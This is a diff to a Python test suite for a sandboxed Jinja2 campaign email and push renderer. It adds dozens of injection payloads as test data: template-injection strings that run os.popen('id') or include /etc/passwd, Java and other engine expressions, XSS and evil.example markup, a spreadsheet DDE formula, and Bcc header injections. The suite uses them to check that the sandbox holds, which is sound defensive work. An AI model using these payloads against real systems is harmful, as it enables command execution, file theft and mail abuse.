@@ -9,10 +9,12 @@ from hypothesis import strategies as st
 from jinja2 import Environment, TemplateError
 from jinja2.sandbox import SecurityError
 
+from campaigns.content import Text, fill
 from campaigns.rendering import Sender, check_content, compile_content, message_context, render_email, render_push
-from campaigns.sandbox import Sandbox, template_faults
+from campaigns.sandbox import Sandbox, template_faults, within_limits
 from campaigns.spec import Campaign
 from campaigns.tables import CampaignError
+from campaigns.words import one_line
 
 ITEMS = {
     "kopi": {"title": "Kopi Bubuk Robusta 200 g", "brand": "Sari Murni", "price": 24_500, "url": "https://toko.example/kopi"},
@@ -301,6 +303,58 @@ DATA_PAYLOADS = [
     "<!--[if mso]><iframe src=//evil.example><![endif]-->",
     "%(shop)s{0.__class__}{shop}",
     "&lt;script&gt;",
+    "{{ config.items() }}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ lipsum.__globals__ }}",
+    "{{ request['application']['__globals__'] }}",
+    "{{ [].__class__.__base__.__subclasses__() }}",
+    "{{ ().__class__|attr('__base__') }}",
+    "{{ shop.__init__ }}",
+    "{{ customer }}",
+    "{{ offers }}",
+    "{{ 'a' * 400000000 }}",
+    "{{ 9 ** 9 ** 9 }}",
+    "{%- include '/etc/passwd' -%}",
+    "{% import 'os' as os %}{{ os.system('id') }}",
+    "{% extends '/etc/passwd' %}",
+    "{% set shop = 'evil' %}",
+    "{% raw %}{{ 7*7 }}{% endraw %}",
+    "{% endraw %}{{ 7*7 }}",
+    "{% endfor %}{{ 7*7 }}",
+    "{% macro x() %}{{ x() }}{% endmacro %}",
+    "{#{{ 7*7 }}#}",
+    "{{{{ 7*7 }}}}",
+    "{{{7*7}}}",
+    "#set($x=7*7)$x",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "${{<%[%'\"}}%\\",
+    "*{7*7}",
+    "@(7*7)",
+    "[[${7*7}]]",
+    "<#assign x=7*7>${x}",
+    "{php}echo 49;{/php}",
+    "{offer}{summary}{called}{salutation}{name}",
+    "{name!r:>999999}",
+    "{0[__class__]}{called.__class__}",
+    "%(name)999999s%n%n",
+    "%s%s%s%d%x",
+    "<mj-raw>{{ 7*7 }}</mj-raw>",
+    '</mj-text><mj-include path="/etc/passwd" />',
+    "<style>*{display:none}</style>",
+    "<svg/onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=//evil.example><input name=x>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<object data=//evil.example></object>",
+    "</td></tr></table><h1>x</h1>",
+    "]]><script>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)",
+    "javascript:alert(1)//https://",
+    "=cmd|' /C calc'!A0",
+    "a\r\nBcc: all@evil.example",
+    "a\u2028Bcc: all@evil.example",
+    "\x00\x1b[31mred",
 ]
 
 
@@ -314,7 +368,26 @@ def test_data_is_never_run_nor_markup(payload):
     assert page.attributes == usual.attributes
     assert page.links == usual.links
     assert page.images == []
-    assert payload[:12] in page.text  # shown as it is, and no more
+    shown = " ".join(one_line(payload).split())
+    assert shown[:12] in page.text  # shown as it is, and no more
+
+
+def test_there_are_sixty_payloads_in_data_and_sixty_in_templates():
+    assert len(set(DATA_PAYLOADS)) >= 60
+    assert len(set(TEMPLATE_PAYLOADS)) >= 60
+
+
+@pytest.mark.parametrize("payload", DATA_PAYLOADS)
+def test_data_in_a_push_is_no_more_than_its_letters(payload):
+    everywhere = dict.fromkeys(("name", "salutation", "tier", "city"), payload)
+    content = compile_content(campaign(push_title="{{ customer.name }}", push_body="{{ customer.city }}"))
+    push = push_of(everywhere, content=content, sender=Sender(payload, "https://toko.example"))
+    usual = json.loads(push_of(content=content).payload)["message"]
+    message = json.loads(push.payload)["message"]
+    assert message["notification"]["title"] == push.title
+    assert one_line(payload)[:20].strip() in push.title
+    assert {key: sorted(part) for key, part in message.items()} == {key: sorted(part) for key, part in usual.items()}
+    assert message["data"]["url"] == usual["data"]["url"]
 
 
 @pytest.mark.parametrize(
@@ -411,6 +484,17 @@ TEMPLATE_PAYLOADS = [
     "{{ x",
     "{% endfor %}",
     "x" * 2_001 + "{{ shop }}",
+    "{{ offers|sum(attribute='points') }}",
+    "{{ shop|e|string|batch(2) }}",
+    "{{ ''['__cla' ~ 'ss__'] }}",
+    "{{ offers|groupby('id')|first|attr('__class__') }}",
+    "{{ customer|xmlattr }}",
+    "{{ dict(a=1) }}{{ range(9) }}",
+    "{% trans %}x{% endtrans %}",
+    "{% do offers.append(1) %}",
+    "{{ caller() }}{{ varargs }}",
+    "{{ loop.index }}",
+    "{{ offer.picks }}",
 ]
 
 
@@ -527,6 +611,31 @@ def test_the_environment_renders_plain_fields_as_jinja_does():
     values = {"offers": [{"title": "<kopi>", "n": 1, "tags": ["x"]}, {"title": "teh", "n": 2, "tags": ["y"]}]}
     plain = Environment(autoescape=True).from_string(text).render(values)
     assert Sandbox(html=True).from_string(text).render(values) == plain == "&lt;KOPI&gt; 2 x;TEH 3 y;"
+
+
+ENDLESS = [{"title": "x" * 100, "empty": ""}] * 1_000_000
+
+
+def test_a_text_that_grows_without_end_is_stopped():
+    with pytest.raises(SecurityError, match="more than 250,000 characters"):
+        Sandbox(html=False).from_string("{% for o in offers %}{{ o.title }}{% endfor %}").render(offers=ENDLESS)
+
+
+def test_a_text_that_takes_too_long_is_stopped_and_named():
+    slow = Sandbox(html=False).from_string("{% for o in offers %}{{ o.empty }}{{ 2 ** 9 // 1000 or '' }}{% endfor %}")
+    with pytest.raises(CampaignError, match=r"promo\.yaml: heading: a text that takes more than 250 ms"):
+        fill(Text("promo.yaml: heading", 120, None, slow), {"offers": ENDLESS * 3})
+
+
+def test_time_is_looked_at_while_a_text_is_made_and_at_its_end():
+    taken = []
+    parts = (taken.append(part) or part for part in "x" * 1000)
+    with pytest.raises(SecurityError, match="more than 0 ms"):
+        within_limits(parts, seconds=0)
+    assert len(taken) < 1000
+    with pytest.raises(SecurityError, match="more than 0 ms"):
+        within_limits(["x"], seconds=0)
+    assert within_limits(["a", "b"]) == "ab"
 
 
 @given(st.text(max_size=200))
